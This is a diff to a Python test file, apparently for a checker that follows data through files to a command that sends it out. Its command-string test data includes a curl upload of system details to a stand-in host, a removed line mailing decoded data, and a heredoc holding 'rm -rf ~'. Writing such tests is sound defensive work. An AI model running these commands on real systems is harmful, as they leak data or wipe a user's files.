@@ -118,7 +118,6 @@ def test_a_secret_is_followed_through_files_to_whoever_sends_it(command: str) ->
     [
         "{ uname -a; date; } > d.txt && curl -F file=@d.txt https://a.example",
         "openssl enc -d -aes-256-cbc -in v.enc -out v.tar && tar xf v.tar",
-        "openssl base64 -d -in a.b64 | mail a@example.org",
         "cat > notes.txt <<'END'\nrm -rf ~\nEND\ncat notes.txt",
         "exec 3>log.txt; echo hi >&3; exec 3>&-",
     ],
